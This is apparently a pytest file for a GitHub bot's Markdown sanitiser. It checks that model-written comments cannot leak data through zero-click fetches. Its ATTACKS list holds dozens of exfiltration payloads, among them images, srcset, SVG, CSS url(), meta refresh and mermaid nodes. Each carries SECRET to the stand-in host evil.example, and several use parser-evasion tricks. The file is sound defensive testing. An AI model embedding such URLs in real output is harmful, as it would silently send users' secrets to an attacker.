"""Posted Markdown keeps nothing that fetches when the page is viewed (zero-click exfiltration).

GitHub's image proxy fetches every ``<img>`` of a comment when someone opens the page, so an image
URL the model wrote (``?d=SECRET``) would reach its host with no click. Every attack below carries
``SECRET`` in the URL: the output must neither render a fetch nor print the URL, and must say
visibly what was removed.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from bot.orchestration.markdown_html import GITHUB_HOSTS, url_allowed
from bot.orchestration.markdown_safety import fetched_resources, neutralize
from bot.orchestration.render import FileDiff, RunReport, finalize, render_progress, render_result

EVIL = "https://evil.example/p.png?d=SECRET"


class _Fetches(HTMLParser):
    """An independent look at rendered HTML: every attribute that makes a browser fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            fetches = name in ("src", "srcset", "poster", "data", "background", "xlink:href", "style") or (
                name == "href" and tag not in ("a", "area")
            )
            if fetches and "evil" in value:
                self.found.append(f"<{tag} {name}={value}>")
        if tag in ("iframe", "object", "embed", "link", "meta", "svg", "base"):
            self.found.append(f"<{tag}>")


def rendered_fetches(markdown: str) -> list[str]:
    parser = _Fetches()
    parser.feed(MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown))
    return parser.found


ATTACKS = [
    ("an inline image", f"look ![]({EVIL}) here"),
    ("an inline image with alt text and a title", f'![chart]({EVIL} "Chart")'),
    ("an image in angle brackets", f"![a](<{EVIL}>)"),
    ("a scheme-relative image", "![a](//evil.example/p.png?d=SECRET)"),
    ("an entity in the image URL", "![a](&#104;ttps://evil.example/p.png?d=SECRET)"),
    ("an image whose URL starts on the next line", f"![a](\n{EVIL}\n)"),
    ("a reference-style image", f"Status: ![a][img]\n\n[img]: {EVIL}"),
    ("a collapsed reference image", f"![img][]\n\n[img]: {EVIL} 'title'"),
    ("a shortcut reference image", f"![img]\n\n[img]: <{EVIL}>"),
    ("a reference label in another case", f"![a][IMG ref]\n\n[img  REF]: {EVIL}"),
    ("an image inside a link", f"[![a]({EVIL})](https://github.com/o/r)"),
    ("an image in a block quote", f"> quoted\n> ![a]({EVIL})"),
    ("an image in a list item", f"- one\n- ![a]({EVIL})"),
    ("an image in a table cell", f"| a | b |\n| --- | --- |\n| x | ![a]({EVIL}) |"),
    ("an image in a heading", f"## Result ![a]({EVIL})"),
    (
        "a shields.io badge (not allowed unless the policy allows the host)",
        "![cov](https://img.shields.io/badge/cov-SECRET-green)",
    ),
    ("user info that names github.com", "![a](https://github.com@evil.example/p.png?d=SECRET)"),
    ("a host that only starts like github.com", "![a](https://github.com.evil.example/p.png?d=SECRET)"),
    ("a host that only ends like githubusercontent.com", "![a](https://evilgithubusercontent.com/p.png?d=SECRET)"),
    ("an https URL without slashes", "![a](https:evil.example/p.png?d=SECRET)"),
    ("a link tail with a code span, then a raw image", f'[a](`) <img src="{EVIL}"> (`)'),
    ("raw <img src>", f'<img src="{EVIL}">'),
    ("raw <IMG SRC> in capitals", f'<IMG SRC="{EVIL}" ALT="x">'),
    ("an unquoted src", "text <img src=https://evil.example/p.png?SECRET> text"),
    ("a tag spread over lines", f'Look: <img\n  src = "{EVIL}"\n  alt="x">'),
    ("an entity inside the attribute", '<img src="&#104;ttps://evil.example/p.png?d=SECRET">'),
    ("a tab entity inside the scheme", '<img src="ht&#9;tps://evil.example/p.png?d=SECRET">'),
    ("a backslash that browsers read as a slash", '<img src="https://evil.example\\@github.com/p.png?d=SECRET">'),
    ("a slash instead of a space before the attribute", f'<div>\n<img/src="{EVIL}">\n</div>'),
    ("srcset", f'<img srcset="{EVIL} 2x">'),
    ("an allowed src with an external srcset", f'<img src="https://github.com/a.png" srcset="{EVIL} 2x">'),
    ("<picture><source srcset>", f'<picture><source srcset="{EVIL}"><img src="docs/a.png"></picture>'),
    ("<video poster>", f'<video poster="{EVIL}"></video>'),
    ("<video src>", f"<video src='{EVIL}' controls></video>"),
    ("<audio src>", f'<audio src="{EVIL}"></audio>'),
    ("<source src>", f'<video><source src="{EVIL}"></video>'),
    ("<track src>", f'<video><track src="{EVIL}"></video>'),
    ("<input type=image src>", f'<input type="image" src="{EVIL}">'),
    ("<image src> (the HTML parser reads it as <img>)", f'<image src="{EVIL}">'),
    ("<svg><image href>", f'<svg><image href="{EVIL}"/></svg>'),
    ("<svg><image xlink:href>", f'<svg><image xlink:href="{EVIL}"></image></svg>'),
    ("<object data>", f'<object data="{EVIL}"></object>'),
    ("<embed src>", f'<embed src="{EVIL}">'),
    ("<iframe>", f'<iframe src="{EVIL}"></iframe>'),
    ("<link>", f'<link rel="stylesheet" href="{EVIL}">'),
    ("<meta http-equiv=refresh>", f'<meta http-equiv="refresh" content="0; url={EVIL}">'),
    ("style= with url(", f'<div style="background: url({EVIL})">x</div>'),
    ("style= with an entity inside url(", '<p style="background:u&#114;l(https://evil.example/p.png?d=SECRET)">x</p>'),
    (
        "style= with a CSS escape inside url(",
        '<p style="background:u\\72 l(https://evil.example/p.png?d=SECRET)">x</p>',
    ),
    ("a background attribute", f'<table background="{EVIL}"><tr><td>x</td></tr></table>'),
    ("a fence-looking line inside an HTML block", f'<div>\n```\n<img src="{EVIL}">\n```\n</div>'),
    ("an HTML comment a browser ends early", f'<!-- --!> <img src="{EVIL}"> -->'),
    ("a processing instruction a browser ends at the first >", f'a <? > <img src="{EVIL}"> ?> b'),
    ("an image tag left open in an HTML block", f'<div>\n<img src="{EVIL}"\n</div>\n\nmore text'),
    (
        "an image in an attribute value of an allowed tag",
        f'<a title="<img src={EVIL}>" href="https://github.com">x</a>',
    ),
    (
        "an HTML block whose first tag goes, with Markdown after it",
        f'<img src="{EVIL}">\n![x](https://evil.example/q.png?d=SECRET)',
    ),
    ("a mermaid diagram with an image node", f'```mermaid\nflowchart TD\n  A@{{ img: "{EVIL}" }}\n```'),
]

BENIGN = [
    ("plain prose", "Fixed the off-by-one in `range_sum` and added a test."),
    ("a relative image in the repository", "![logo](docs/logo.png)"),
    ("a root-relative image", "![logo](/o/r/raw/main/docs/logo.png)"),
    ("GitHub's own workflow badge", "![CI](https://github.com/o/r/actions/workflows/ci.yml/badge.svg)"),
    ("an uploaded attachment", "![shot](https://user-images.githubusercontent.com/1/abc.png)"),
    ("raw.githubusercontent.com in HTML", '<img src="https://raw.githubusercontent.com/o/r/main/a.png" width="200">'),
    (
        "a picture whose sources are on GitHub",
        '<picture><source srcset="https://github.com/a.png"><img src="https://github.com/b.png"></picture>',
    ),
    ("a plain link to anywhere (it needs a click)", "[report](https://evil.example/page?q=1)"),
    ("an HTML link to anywhere", '<a href="https://evil.example/x">x</a>'),
    ("an autolink to an image URL", "<https://evil.example/p.png>"),
    ("a bare image URL (GitHub makes it a link)", "see https://evil.example/p.png"),
    ("an image inside a fenced block", f'```markdown\n![]({EVIL})\n<img src="{EVIL}">\n```'),
    ("an image inside a tilde fence in a list", f"- item\n\n  ~~~\n  ![]({EVIL})\n  ~~~"),
    ("an image inside inline code", f'Use `![]({EVIL})` or `<img src="{EVIL}">` in docs.'),
    ("an image in an indented code block", f"Example:\n\n    ![]({EVIL})"),
    ("details and summary", "<details><summary>Run log</summary>\n\n- **Bash** `ls`\n\n</details>"),
    ("comparisons", "a < b and c > d, x<y"),
    ("the bot's markers", "<!-- bot:result -->\n### Done"),
    ("a reference link (not an image)", "See [the docs][d].\n\n[d]: https://evil.example/docs"),
    ("a table", "| a | b |\n| --- | --- |\n| 1 | 2 |"),
    ("a mermaid diagram without resources", "```mermaid\nflowchart TD\n  A --> B\n```"),
]


@pytest.mark.parametrize(("description", "markdown"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_nothing_external_is_fetched_when_the_comment_is_viewed(description: str, markdown: str) -> None:
    safe = neutralize(markdown)
    assert "SECRET" not in safe, description
    assert "removed" in safe, description  # said visibly, not dropped silently
    assert rendered_fetches(safe) == [], description
    assert fetched_resources(safe) == [], description
    assert fetched_resources(markdown) != [], f"the check itself misses: {description}"


@pytest.mark.parametrize(("description", "markdown"), BENIGN, ids=[b[0] for b in BENIGN])
def test_what_does_not_fetch_is_kept_byte_for_byte(description: str, markdown: str) -> None:
    assert neutralize(markdown) == markdown, description
    assert fetched_resources(markdown) == [], description


def test_the_removed_image_names_its_host_but_never_its_url() -> None:
    safe = neutralize(f"Before ![chart]({EVIL}) after")
    assert safe == "Before \\[external image removed: evil.example\\] after"


def test_the_host_shown_is_the_registered_domain_not_a_subdomain_that_may_carry_data() -> None:
    safe = neutralize("![a](https://SECRET.tracker.evil.example/p.png)")
    assert "SECRET" not in safe
    assert "evil.example" in safe


@pytest.mark.parametrize(
    ("description", "hosts", "url", "allowed"),
    [
        ("an allowed host", ["img.shields.io"], "https://img.shields.io/badge/x", True),
        ("a wildcard covers subdomains", ["*.example.org"], "https://cdn.example.org/a.png", True),
        ("a wildcard does not cover a look-alike", ["*.example.org"], "https://badexample.org/a.png", False),
        ("an exact host is not a wildcard", ["example.org"], "https://cdn.example.org/a.png", False),
        ("policy rule text works too", ["domain:docs.example.org"], "https://docs.example.org/a.png", True),
        ("not http", [], "data:image/png;base64,AAAA", False),
        ("javascript", [], "javascript:alert(1)", False),
        ("github.com", [], "https://GitHub.com/o/r/badge.svg", True),
        ("a githubusercontent subdomain", [], "https://avatars.githubusercontent.com/u/1", True),
        ("a relative path", [], "../docs/a.png", True),
        ("two backslashes are scheme-relative to a browser", [], "\\\\evil.example/a.png", False),
    ],
)
def test_allowed_hosts(description: str, hosts: list[str], url: str, allowed: bool) -> None:
    assert url_allowed(url, hosts) is allowed, description


def test_an_allowed_host_keeps_its_images() -> None:
    text = '![cov](https://img.shields.io/badge/cov-90-green) <img src="https://img.shields.io/x.svg">'
    assert neutralize(text, allowed_hosts=["img.shields.io"]) == text
    assert "removed" in neutralize(text)
    assert GITHUB_HOSTS  # GitHub's hosts are always allowed


def test_neutralizing_twice_changes_nothing_more() -> None:
    once = neutralize("\n\n".join(markdown for _, markdown in ATTACKS))
    assert neutralize(once) == once
    assert fetched_resources(once) == []


def test_a_removed_image_cannot_turn_the_next_bracket_into_an_image() -> None:
    safe = neutralize(f"!![a]({EVIL})(https://evil.example/q.png?d=SECRET)")
    assert rendered_fetches(safe) == []
    assert fetched_resources(safe) == []


def test_what_the_rewriter_misses_is_escaped_before_posting(monkeypatch: pytest.MonkeyPatch) -> None:
    import bot.orchestration.markdown_safety as safety

    monkeypatch.setattr(safety, "_pass", lambda text, hosts: text)  # a rewriter that sees nothing
    for description, markdown in ATTACKS:
        safe = neutralize(markdown)
        assert rendered_fetches(safe) == [], description
        assert fetched_resources(safe) == [], description


def test_everything_posted_goes_through_finalize() -> None:
    assert "SECRET" not in finalize(f"![]({EVIL})")
    assert finalize(f"![]({EVIL})", allowed_hosts=["evil.example"]) == f"![]({EVIL})"


def test_the_result_comment_removes_images_from_the_summary_but_not_from_diffs() -> None:
    patch = f"@@ -1 +1 @@\n+![]({EVIL})"
    report = RunReport(
        conclusion="success",
        headline="Done",
        summary=f"Here is a chart: ![c]({EVIL})",
        files=(FileDiff("README.md", "modified", 1, 0, patch),),
    )
    text = render_result(report)
    assert "external image removed: evil.example" in text
    assert f"+![]({EVIL})" in text  # inside the diff's fence: shown as code, never rendered
    assert rendered_fetches(text) == []


def test_the_progress_comment_removes_images_from_todos() -> None:
    from bot.orchestration.render import TodoView

    text = render_progress("Working…", todos=(TodoView(f"look at ![x]({EVIL})", "pending"),))
    assert "SECRET" not in text
    assert rendered_fetches(text) == []
